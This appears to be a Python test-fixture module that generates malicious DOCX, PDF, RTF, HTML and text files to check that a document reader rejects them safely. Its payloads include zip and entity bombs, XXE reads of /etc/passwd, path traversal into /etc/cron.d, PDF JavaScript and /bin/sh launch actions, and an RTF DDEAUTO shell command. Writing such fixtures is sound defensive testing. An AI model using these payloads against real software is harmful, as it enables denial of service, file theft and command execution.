"""Files that mean harm, made here: what each is, and what it may get at most."""

# ruff: noqa: E501 -- one row a file

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from word_files import W, docx, p

TASK = "1. Văn phòng Sở báo cáo Giám đốc Sở trước ngày 05/6/2024."
LETTER = f"UBND TỈNH A\nSỞ NỘI VỤ\n\nSố: 12/SNV-VP\n\nGiám đốc Sở yêu cầu thực hiện:\n\n{TASK}\n"
WORD = p("Giám đốc Sở yêu cầu thực hiện:") + p(TASK)


@dataclass(frozen=True)
class Hostile:
    """``expected`` are the kinds of error that are right, or ``read``; ``web`` in ``make`` is a server to be left alone."""

    name: str
    make: Callable[[str], bytes]
    expected: tuple[str, ...]


def package(parts: dict[str, bytes], good: bytes | None = None) -> bytes:
    """A Word file with some parts replaced or added."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good or docx(WORD))) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return buffer.getvalue()


def main_part(head: str, body: str) -> dict[str, bytes]:
    xml = f'<?xml version="1.0"?>{head}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return {"word/document.xml": xml.encode()}


def entity_bomb() -> bytes:
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    head = f'<!DOCTYPE w:document [<!ENTITY e0 "ha">{levels}]>'
    return package(main_part(head, "<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>"))


def external_entity(address: str) -> bytes:
    head = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{address}">]>'
    return package(main_part(head, "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"))


def lying_sizes() -> bytes:
    """The directory announces 100 bytes for a part of 50 MB."""
    data = bytearray(package({"word/document.xml": b"<a>" + b" " * 50_000_000}))
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/document.xml"))
    data[central + 24 : central + 28] = struct.pack("<I", 100)
    return bytes(data)


def overlapping_bomb() -> bytes:
    """Ten thousand names in the directory for one part of 1 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 1_000_000)
        first = archive.infolist()[0]
        for number in range(10_000):
            twin = zipfile.ZipInfo(f"word/{number}.xml")
            for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(twin, field, getattr(first, field))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return buffer.getvalue()


def relations(web: str) -> bytes:
    """Relationships that lead to the web, to the machine's files and out of the archive."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    targets = [
        ("attachedTemplate", f"{web}/template.dotm", "External"),
        ("image", f"{web}/picture.png", "External"),
        ("footnotes", "../../../../../../etc/passwd", "Internal"),
        ("styles", "/etc/passwd", "Internal"),
        ("numbering", "file:///etc/passwd", "Internal"),
        ("oleObject", f"{web}/object.bin", "External"),
        ("frame", f"{web}/frame.htm", "External"),
    ]
    rows = "".join(
        f'<Relationship Id="x{index}" Type="{kind}/{name}" Target="{target}" TargetMode="{mode}"/>'
        for index, (name, target, mode) in enumerate(targets)
    )
    xml = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'
    return package({"word/_rels/document.xml.rels": xml.encode(), "../../../etc/cron.d/x": b"* * * * * root id"})


def pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    return bytes(out)


def stream(data: bytes, head: bytes = b"", *, deflated: bool = True) -> bytes:
    if deflated:
        data, head = zlib.compress(data, 1), head + b"/Filter/FlateDecode"
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (head, len(data), data)


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
WORDS = b"BT /F1 12 Tf 70 700 Td (So: 12/SNV-VP) Tj 0 -20 Td (1. Van phong bao cao) Tj ET"


def page(
    content: bytes = WORDS,
    *,
    box: bytes = b"0 0 595 842",
    extra: bytes = b"",
    catalog: bytes = b"",
    more: tuple[bytes, ...] = (),
) -> bytes:
    """A PDF of one page; further objects begin at number 6."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%s>>>>" % (box, extra),
        stream(content),
        FONT,
        *more,
    )


def many_pages(number: int) -> bytes:
    kids = b" ".join(b"3 0 R" for _ in range(number))
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, number),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        stream(WORDS),
        FONT,
    )


def active(web: str) -> bytes:
    """Scripts and links that a reader for people may obey."""
    address = web.encode()
    actions = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('%s/js'\\))>>/AA<</WC<</S/URI/URI(%s/close)>>>>" % (
        address,
        address,
    )
    names = b"/Names<</JavaScript<</Names[(a) <</S/JavaScript/JS(this.submitForm\\('%s/form'\\))>>]>>>>" % address
    return page(catalog=actions + names, extra=b"/XObject<</X 6 0 R>>", more=(
        b"<</Type/XObject/Subtype/Image/Width 1/Height 1/F<</FS/URL/F(%s/image)>>/Length 0>>stream\n\nendstream" % address,
        b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>",
    ))  # fmt: skip


def rtf(web: str) -> bytes:
    fields = (
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{web}/rtf.png"}}{{\fldrslt x}}}}'
        r'{\field{\*\fldinst INCLUDETEXT "/etc/passwd"}{\fldrslt y}}'
        r'{\field{\*\fldinst DDEAUTO "sh" "-c" "touch /etc/owned"}{\fldrslt z}}'
        rf"{{\*\template {web}/template.dot}}"
    )
    return (
        r"{\rtf1\ansi "
        + fields
        + r"S\u7889?: 12/SNV-VP\par 1. B\u225?o c\u225?o tr\u432?\u7899?c ng\u224?y 05/6/2024.\par}"
    ).encode()


def html(web: str) -> bytes:
    return (
        f"<html><head><meta charset=utf-8><script src='{web}/a.js'></script><link rel=stylesheet href='{web}/a.css'>"
        f"<meta http-equiv=refresh content='0;url={web}/go'></head><body onload=\"fetch('{web}/onload')\">"
        f"<img src='{web}/a.png'><iframe src='{web}/frame'></iframe><iframe src='file:///etc/passwd'></iframe>"
        f"<object data='{web}/o'></object><p>Số: 12/SNV-VP</p><p>{TASK}</p></body></html>"
    ).encode()


def text(body: str) -> Callable[[str], bytes]:
    return lambda web: (LETTER + body).encode()


def of(data: Callable[[], bytes]) -> Callable[[str], bytes]:
    return lambda web: data()


REFUSED = ("LimitError", "DamagedFileError")
ANY = ("read", "LimitError", "DamagedFileError", "EmptyDocumentError")

FILES = [
    Hostile("zip-bomb.docx", of(lambda: package({"word/document.xml": b" " * 250_000_000})), ("LimitError",)),
    Hostile("zip-bomb-beside.docx", of(lambda: package({"word/media/a.emf": bytes(250_000_000)})), ("LimitError",)),
    Hostile("zip-bomb-overlapping.docx", of(overlapping_bomb), ("LimitError",)),
    Hostile("zip-lying.docx", of(lying_sizes), REFUSED),
    Hostile("zip-members.docx", of(lambda: package({f"x/{n}": b"" for n in range(21_000)})), ("LimitError",)),
    Hostile("entities.docx", of(entity_bomb), REFUSED),
    Hostile("entity-file.docx", of(lambda: external_entity("file:///etc/passwd")), REFUSED),
    Hostile("entity-web.docx", lambda web: external_entity(f"{web}/entity"), REFUSED),
    Hostile("relations.docx", relations, ("read",)),
    Hostile("deep.docx", of(lambda: docx("<w:sdt><w:sdtContent>" * 5000 + WORD)), REFUSED),
    Hostile("deep-tables.docx", of(lambda: docx("<w:tbl><w:tr><w:tc>" * 80 + WORD + "</w:tc></w:tr></w:tbl>" * 80)), ANY),
    Hostile("one-paragraph.docx", of(lambda: docx(p("thực hiện " * 30_000))), ANY),
    Hostile("one-word.docx", of(lambda: docx(p("a" * 300_000))), ANY),
    Hostile("objects.pdf", of(lambda: page(more=(b"<<>>",) * 300_000)), ANY),
    Hostile("pages.pdf", of(lambda: many_pages(200_000)), ("LimitError",)),
    Hostile("pages-lied.pdf", of(lambda: many_pages(1).replace(b"/Count 1>", b"/Count 2000000000>")), ANY),
    Hostile("page-huge.pdf", of(lambda: page(box=b"0 0 99999999999 99999999999")), ANY),
    Hostile("page-flat.pdf", of(lambda: page(box=b"0 0 0 0")), ANY),
    Hostile("page-nan.pdf", of(lambda: page(box=b"-1e38 -1e38 1e38 1e38")), ANY),
    Hostile("flate-bomb.pdf", of(lambda: page(b" " * 300_000_000)), ANY),
    Hostile("characters.pdf", of(lambda: page(b"BT /F1 1 Tf 0 0 Td " + b"(aaaaaaaaaa) Tj " * 200_000 + b"ET")), ANY),
    Hostile("lines.pdf", of(lambda: page(WORDS + b" 0 0 m 9 9 l S" * 300_000)), ANY),
    Hostile("grid.pdf", of(lambda: page(WORDS + b"".join(b" %d 0 m %d 800 l S 0 %d m 500 %d l S" % (n, n, n, n) for n in range(600)))), ANY),
    Hostile("saves.pdf", of(lambda: page(b"q " * 2_000_000 + WORDS)), ANY),
    Hostile("arrays.pdf", of(lambda: page(b"[" * 1_000_000 + WORDS)), ANY),
    Hostile("arrays-in-file.pdf", of(lambda: page(more=(b"[" * 500_000,), catalog=b"/X 6 0 R")), ANY),
    Hostile("loop-pages.pdf", of(lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")), ANY),
    Hostile("loop-form.pdf", of(lambda: page(b"/X Do " + WORDS, extra=b"/XObject<</X 6 0 R>>", more=(
        stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"),))), (*ANY, "UnexpectedError")),
    Hostile("forms-tenfold.pdf", of(lambda: page(b"/X Do " + WORDS, extra=b"/XObject<</X 6 0 R>>", more=tuple(
        stream(b"/X Do " * 10 if n < 14 else WORDS, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (n + 1))
        for n in range(6, 15)))), (*ANY, "UnexpectedError")),  # pdfium itself may end for want of memory
    Hostile("picture-huge.pdf", of(lambda: page(b"q 595 0 0 842 0 0 cm /X Do Q", extra=b"/XObject<</X 6 0 R>>", more=(
        stream(bytes(1000), b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceGray"),))), ANY),
    Hostile("active.pdf", active, ("read",)),
    Hostile("fields.rtf", rtf, ("read", "DamagedFileError")),
    Hostile("active.html", html, ("read",)),
    Hostile("deep.rtf", of(lambda: b"{\\rtf1 " + b"{" * 300_000 + b"a"), ANY),
    Hostile("one-line.txt", text("giao Sở A chủ trì, phối hợp với Sở B " * 8_000), ANY),
    Hostile("one-word.txt", text("a" * 300_000), ANY),
    Hostile("blanks.txt", text(" " * 500_000), ANY),
    Hostile("line-ends.txt", text("\n" * 200_000), ANY),
    Hostile("tags.txt", text("<b>" * 100_000), ANY),
    Hostile("controls.txt", text("".join(map(chr, range(1, 0x3000)))), (*ANY, "UnknownFormatError")),
    Hostile("marks.txt", text("a" + "\u0301" * 100_000), ANY),
]  # fmt: skip
